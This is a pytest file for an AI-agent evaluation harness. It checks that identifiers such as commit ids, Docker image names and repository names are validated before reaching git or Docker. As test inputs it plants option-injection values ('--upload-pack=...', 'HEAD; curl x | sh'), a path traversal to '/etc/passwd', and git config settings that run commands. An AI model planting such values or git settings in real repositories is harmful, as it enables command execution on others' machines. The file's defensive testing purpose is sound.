"""Issue 20, item 3: externally supplied identifiers are checked before they reach git, the
container engine's API or a path; a bad one is that task's error (one line), never the run's.

Each test plants the identifier the probes used: a SWE-bench ``base_commit`` of
``--upload-pack=CMD`` (git ran CMD), a ``docker_image`` of ``../../../etc/passwd`` (the Docker SDK
made it an API path; ``tasks verify`` ended in a traceback), a task directory name that is no
directory name, and a hand-written SWE-bench task's ``base_commit`` that ``git diff`` read as
``--output=FILE``.
"""

import json
import os
import subprocess
from pathlib import Path

import pytest

from harness.evaluate import EvalConfig, run_eval
from harness.replay import ReplayScript, ReplayServer, ScriptedCall, ScriptedResponse
from harness.tasks import load_suite
from harness.tasks.identifiers import BadIdentifier, check_commit, check_image_reference, is_image_reference
from tests.conftest import run_harness
from tests.test_swebench import instance, write  # noqa: F401  instance: a real row on a stand-in checkout

pytestmark = pytest.mark.timeout(300)


def _task(root: Path, name: str, toml: str = "", solve: str | None = None) -> Path:
    d = root / name
    (d / "environment" / "workspace").mkdir(parents=True)
    (d / "tests").mkdir()
    (d / "instruction.md").write_text("Write done.txt.")
    (d / "tests" / "test.sh").write_text('#!/usr/bin/env bash\ntest -f "$WORKSPACE/done.txt"\n')
    if solve is not None:
        (d / "solution").mkdir()
        (d / "solution" / "solve.sh").write_text(solve)
    if toml:
        (d / "task.toml").write_text(toml)
    return d


@pytest.mark.slow
def test_a_base_commit_that_is_an_option_never_reaches_git_and_only_its_row_fails(
    instance: dict,  # noqa: F811
    tmp_path: Path,
) -> None:
    marker = tmp_path / "upload-pack-ran"
    bad = {**instance, "instance_id": "sympy__sympy-1", "base_commit": f"--upload-pack=touch {marker}"}
    suite = load_suite(str(write(tmp_path, bad, instance)), images=True)
    assert not marker.exists()
    assert [t.id for t in suite.tasks] == ["sympy__sympy-20212"]  # the good row still loads
    (skipped,) = suite.skipped
    assert skipped.id == "line 1" and "base_commit '--upload-pack=touch" in skipped.reason
    assert "not a commit id" in skipped.reason and "\n" not in skipped.reason


@pytest.mark.parametrize(
    ("field", "value", "needle"),
    [
        ("environment_setup_commit", "HEAD; curl x | sh", "environment_setup_commit"),
        ("repo", "../../etc", "not an owner/name repository"),
    ],
)
def test_other_swebench_identifiers_are_checked_per_row(
    instance: dict,  # noqa: F811
    tmp_path: Path,
    field: str,
    value: str,
    needle: str,
) -> None:
    suite = load_suite(str(write(tmp_path, {**instance, field: value})), images=True)
    assert suite.tasks == [] and needle in suite.skipped[0].reason


@pytest.mark.slow
def test_a_docker_image_that_is_a_path_is_that_task_s_error_and_the_rest_are_verified(tmp_path: Path) -> None:
    suite = tmp_path / "suite"
    _task(suite, "a-good", solve="#!/usr/bin/env bash\ntouch done.txt\n")
    _task(suite, "b-escape", toml='[environment]\ndocker_image = "../../../etc/passwd"\n')
    loaded = load_suite(str(suite), images=True)
    assert [t.id for t in loaded.tasks] == ["a-good"]
    assert "docker_image '../../../etc/passwd': not an image reference" in loaded.skipped[0].reason
    done = run_harness(
        "tasks",
        "verify",
        str(suite),
        "--runtime",
        "docker",
        timeout=240,
        env={**os.environ, "COLUMNS": "400"},
    )
    assert "Traceback" not in done.stderr + done.stdout, done.stderr[-3000:]
    assert "b-escape" in done.stdout and "not an image reference" in done.stdout
    assert done.returncode == 0, done.stdout + done.stderr  # a-good is valid; b-escape is listed


def test_a_task_id_too_long_for_a_directory_name_is_that_task_s_error_and_dot_is_named(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """A nested suite's id joins its directories' names when a leaf name repeats: 301 characters
    named the episode's directory and stopped the whole eval (File name too long)."""
    suite = tmp_path / "suite"
    leaf = "t" * 150
    _task(suite / ("a" * 150), leaf)
    _task(suite / ("b" * 150), leaf)
    _task(suite, "good")
    loaded = load_suite(str(suite))
    assert [t.id for t in loaded.tasks] == ["good"]
    assert len(loaded.skipped) == 2 and all(
        "not usable as a directory name" in s.reason for s in loaded.skipped
    )
    monkeypatch.chdir(suite / "good")  # --tasks . names the task by its directory, not ""
    assert [t.id for t in load_suite(".").tasks] == ["good"]


def test_export_preds_never_hands_git_a_base_commit_that_is_an_option(tmp_path: Path) -> None:
    marker = tmp_path / "diff-written-here"
    task = _task(
        tmp_path / "suite",
        "hand-made",
        toml=f'[task]\ncategory = "swe-bench"\nbase_commit = "--output={marker}"\n',
    )
    (task / "environment" / "repo").mkdir()
    script = [
        ScriptedResponse(
            tool_calls=[ScriptedCall(name="terminal", arguments={"command": "git init -q && touch done.txt"})]
        ),
        ScriptedResponse(tool_calls=[ScriptedCall(name="finish", arguments={"message": "done"})]),
    ]
    run = tmp_path / "run"
    with ReplayServer(ReplayScript(model="scripted", responses=script)) as server:
        run_eval(
            EvalConfig(
                runtime="local", models=("scripted",), tasks=str(task), base_url=server.base_url, run_dir=run
            )
        )
    done = run_harness("export-preds", str(run), "--out", str(tmp_path / "preds.jsonl"))
    assert done.returncode == 0, done.stderr
    assert not marker.exists()
    said = " ".join(done.stderr.split())
    assert "hand-made seed 1 left out" in said and "not a commit id" in said


def test_the_checks_themselves() -> None:
    for good in (
        "python:3.12-slim",
        "localhost/harness-sandbox:32fc4bc4717a",
        "registry.local:5000/a/b_c-d@sha256:" + "a" * 64,
        "ubuntu",
    ):
        assert check_image_reference(good, "x") == good
    for bad in ("../../../etc/passwd", "Ubuntu", "a//b", "a:", "-a", "a b", "", "x" * 256, 7):
        assert not is_image_reference(bad), bad
    assert check_commit("0123abc", "x") == "0123abc"
    for bad in ("--upload-pack=x", "HEAD", "abc", "0123abc..def4567", "g" * 40, None):
        with pytest.raises(BadIdentifier, match="not a commit id"):
            check_commit(bad, "x")


def test_export_preds_runs_no_command_the_agents_repository_names(tmp_path: Path) -> None:
    """The agent's .git is diffed in a copy on this machine: its config could name commands that
    `git add` / `git diff` run (core.fsmonitor, a filter driver's clean, an external diff)."""
    ran = tmp_path / "ran"
    ran.mkdir()
    stamp = {"GIT_AUTHOR_DATE": "2020-01-01T00:00:00Z", "GIT_COMMITTER_DATE": "2020-01-01T00:00:00Z"}
    commit = "git init -q && git -c user.email=a@b -c user.name=a commit -q --allow-empty -m base"
    probe = tmp_path / "probe"
    probe.mkdir()
    subprocess.run(["bash", "-c", commit], cwd=probe, env={**os.environ, **stamp}, check=True)
    base = subprocess.run(
        ["git", "rev-parse", "HEAD"], cwd=probe, capture_output=True, text=True, check=True
    ).stdout.strip()
    task = _task(
        tmp_path / "suite", "planted", toml=f'[task]\ncategory = "swe-bench"\nbase_commit = "{base}"\n'
    )
    (task / "environment" / "repo").mkdir()
    plant = " && ".join(
        [
            "export " + " ".join(f"{k}={v}" for k, v in stamp.items()),
            commit,
            f"git config core.fsmonitor 'touch {ran}/fsmonitor'",
            f"git config filter.evil.clean 'touch {ran}/filter; cat'",
            f"git config diff.external 'touch {ran}/diff'",
            "echo '* filter=evil' > .gitattributes",
            f"printf '#!/bin/sh\\ntouch {ran}/hook\\n' > .git/hooks/pre-commit && chmod +x .git/hooks/pre-commit",
            "echo fixed > fix.txt",
        ]
    )
    script = [
        ScriptedResponse(tool_calls=[ScriptedCall(name="terminal", arguments={"command": plant})]),
        ScriptedResponse(tool_calls=[ScriptedCall(name="finish", arguments={"message": "done"})]),
    ]
    run = tmp_path / "run"
    with ReplayServer(ReplayScript(model="scripted", responses=script)) as server:
        run_eval(
            EvalConfig(
                runtime="local", models=("scripted",), tasks=str(task), base_url=server.base_url, run_dir=run
            )
        )
    ran_before = sorted(p.name for p in ran.iterdir())  # the agent's own git commands ran nothing either
    done = run_harness("export-preds", str(run), "--out", str(tmp_path / "preds.jsonl"))
    assert done.returncode == 0, done.stderr
    assert sorted(p.name for p in ran.iterdir()) == ran_before == [], sorted(p.name for p in ran.iterdir())
    lines = (tmp_path / "preds.jsonl").read_text().splitlines()
    assert lines, done.stderr
    patch = json.loads(lines[0])["model_patch"]
    assert "+fixed" in patch and "fix.txt" in patch
